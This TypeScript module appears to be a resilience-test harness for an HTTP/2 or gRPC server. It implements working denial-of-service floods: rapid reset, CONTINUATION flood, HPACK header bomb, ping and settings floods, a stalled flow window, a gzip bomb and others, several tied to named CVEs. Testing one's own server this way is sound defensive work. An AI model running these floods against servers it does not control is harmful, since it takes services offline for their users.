// What a client can do to an HTTP/2 port that no honest one does. Each goes on
// for the given time, or until the server has had enough of it.
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import {
  Flag,
  Frame,
  frame,
  grpcHeaders,
  headerBlock,
  INITIAL_WINDOW_SIZE,
  openWire,
  setting,
  uint32,
  type Wire,
} from './raw-http2.ts';

export interface Target {
  port: number;
  /** Of a method with one answer that anybody may call. */
  path: string;
  /** How long to go on. */
  forMs: number;
}

/** What it came to. */
export interface Outcome {
  /** Frames, calls or connections that were tried. */
  tried: number;
  /** Connections that the server hung up. */
  hungUp: number;
  /** Connections that there were. */
  connections: number;
}

export type Attack = (target: Target) => Promise<Outcome>;

/** As much as a client of 100 Mbit/s can send. */
const BYTES_A_MS = 12_500;

/** Sends what `make` gives until time is up; begins anew where the server hangs up. */
async function repeat(
  target: Target,
  make: (wire: Wire, number: number) => Buffer,
  settings?: Buffer,
): Promise<Outcome> {
  const beganMs = performance.now();
  const untilMs = beganMs + target.forMs;
  const outcome: Outcome = { tried: 0, hungUp: 0, connections: 0 };
  let sent = 0;
  while (performance.now() < untilMs) {
    using wire = await openWire(target.port, settings);
    outcome.connections++;
    for (let number = 0; wire.isOpen() && performance.now() < untilMs; number++) {
      const bytes = make(wire, number);
      await wire.write(bytes);
      outcome.tried++;
      sent += bytes.length;
      const aheadMs = sent / BYTES_A_MS - (performance.now() - beganMs);
      if (aheadMs > 0) await sleep(aheadMs);
      // Whoever never waits would not hear that the server has hung up.
      else if (number % 16 === 0) await new Promise(setImmediate);
    }
    if (!wire.isOpen()) outcome.hungUp++;
  }
  return outcome;
}

/** The stream of a client's n-th call. */
function streamOf(number: number): number {
  return 2 * number + 1;
}

/** Many frames in one write: a flood costs the server more than who sends it. */
function many(count: number, bytes: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => bytes(index)));
}

const A_WRITE = 50;

/** Calls without end, each with a frame behind it that ends it. */
function callsEndedBy(ending: (stream: number) => Buffer): Attack {
  return (target) => {
    const block = headerBlock(grpcHeaders(target.path));
    return repeat(target, (_, number) =>
      many(A_WRITE, (index) => {
        const stream = streamOf(number * A_WRITE + index);
        return Buffer.concat([frame(Frame.headers, Flag.endHeaders, stream, block), ending(stream)]);
      }),
    );
  };
}

/** Calls that are taken back at once (CVE-2023-44487). */
const rapidReset = callsEndedBy((stream) => frame(Frame.reset, Flag.none, stream, uint32(8)));

/** Calls that make the server take them back: a window that grows by nothing (CVE-2025-8671). */
const provokedReset = callsEndedBy((stream) => frame(Frame.windowUpdate, Flag.none, stream, uint32(0)));

/** Headers that never end (CVE-2024-27316). */
const continuationFlood: Attack = (target) => {
  const block = headerBlock({ 'x-a': 'a'.repeat(100) });
  return repeat(target, (_, number) =>
    number === 0
      ? frame(Frame.headers, Flag.none, 1, headerBlock(grpcHeaders(target.path)))
      : many(A_WRITE, () => frame(Frame.continuation, Flag.none, 1, block)),
  );
};

/** One large header, kept by the server, and named thousands of times in a byte each (CVE-2016-6581). */
const headerBomb: Attack = (target) => {
  const kept = headerBlock({ 'x-large': 'a'.repeat(4000) }, true);
  const bomb = Buffer.concat([headerBlock(grpcHeaders(target.path)), Buffer.alloc(15_000, 0x80 | 62)]);
  return repeat(target, (_, number) =>
    number === 0
      ? frame(Frame.headers, Flag.endHeaders, 1, Buffer.concat([headerBlock(grpcHeaders(target.path)), kept]))
      : frame(Frame.headers, Flag.endHeaders, streamOf(number), bomb),
  );
};

/** Settings without end, each to be acknowledged (CVE-2019-9515). */
const settingsFlood: Attack = (target) =>
  repeat(target, (_, number) =>
    many(A_WRITE, (index) =>
      frame(Frame.settings, Flag.none, 0, setting(INITIAL_WINDOW_SIZE, 65_535 + ((number + index) % 2))),
    ),
  );

/** Pings without end, each to be answered (CVE-2019-9512). */
const pingFlood: Attack = (target) =>
  repeat(target, () => many(A_WRITE, () => frame(Frame.ping, Flag.none, 0, Buffer.alloc(8))));

/** The same from one that reads no answers. */
const deafPingFlood: Attack = (target) =>
  repeat(target, (wire) => {
    wire.socket.pause();
    return many(A_WRITE, () => frame(Frame.ping, Flag.none, 0, Buffer.alloc(8)));
  });

/** Pieces of a request that hold nothing (CVE-2019-9518). */
const emptyData: Attack = (target) =>
  repeat(target, (_, number) =>
    number === 0
      ? frame(Frame.headers, Flag.endHeaders, 1, headerBlock(grpcHeaders(target.path)))
      : many(A_WRITE, () => frame(Frame.data, Flag.none, 1)),
  );

/** Windows that grow by one byte. */
const windowFlood: Attack = (target) =>
  repeat(target, () => many(A_WRITE, () => frame(Frame.windowUpdate, Flag.none, 0, uint32(1))));

/** Priorities of streams that are not there (CVE-2019-9513). */
const priorityFlood: Attack = (target) =>
  repeat(target, (_, number) =>
    many(A_WRITE, (index) =>
      frame(Frame.priority, Flag.none, streamOf((number + index) % 1000), Buffer.from([0, 0, 0, 0, 16])),
    ),
  );

/** Frames of a type that nobody knows. */
const unknownFrames: Attack = (target) =>
  repeat(target, () => many(A_WRITE, () => frame(0xbe, Flag.none, 0, Buffer.alloc(100))));

/** Calls whose answers are never allowed to be sent (CVE-2019-9517). */
const stalledWindow: Attack = (target) => {
  const block = headerBlock(grpcHeaders(target.path));
  const body = Buffer.alloc(5);
  return repeat(
    target,
    (_, number) =>
      Buffer.concat([
        frame(Frame.headers, Flag.endHeaders, streamOf(number), block),
        frame(Frame.data, Flag.endStream, streamOf(number), body),
      ]),
    setting(INITIAL_WINDOW_SIZE, 0),
  );
};

/** 64 KiB that would be 64 MiB. */
const gzipBomb: Attack = (target) => {
  const zeros = gzipSync(
    gzipSync(Buffer.alloc(0)).length > 0 ? Buffer.alloc(256 * 1024 * 1024) : Buffer.alloc(0),
    { level: 9 },
  );
  const block = headerBlock(grpcHeaders(target.path, { 'grpc-encoding': 'gzip' }));
  const message = Buffer.concat([Buffer.from([1]), uint32(zeros.length), zeros]);
  return repeat(target, (_, number) => {
    const stream = streamOf(number);
    const parts = [frame(Frame.headers, Flag.endHeaders, stream, block)];
    for (let at = 0; at < message.length; at += 16_384) {
      const isLast = at + 16_384 >= message.length;
      parts.push(
        frame(Frame.data, isLast ? Flag.endStream : Flag.none, stream, message.subarray(at, at + 16_384)),
      );
    }
    return Buffer.concat(parts);
  });
};

/** Bad header blocks: indexes of nothing, names in capitals, no path. */
const badHeaders: Attack = (target) => {
  const blocks = [
    Buffer.alloc(10, 0xff),
    headerBlock({ ...grpcHeaders(target.path), 'Upper-Case': 'a' }),
    headerBlock({ ':method': 'POST' }),
    headerBlock({ ...grpcHeaders(target.path), connection: 'close' }),
  ];
  return repeat(target, (_, number) =>
    frame(Frame.headers, Flag.endHeaders, streamOf(number), blocks[number % blocks.length]),
  );
};

/** By name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  rapidReset,
  provokedReset,
  continuationFlood,
  headerBomb,
  settingsFlood,
  pingFlood,
  deafPingFlood,
  emptyData,
  windowFlood,
  priorityFlood,
  unknownFrames,
  stalledWindow,
  gzipBomb,
  badHeaders,
};
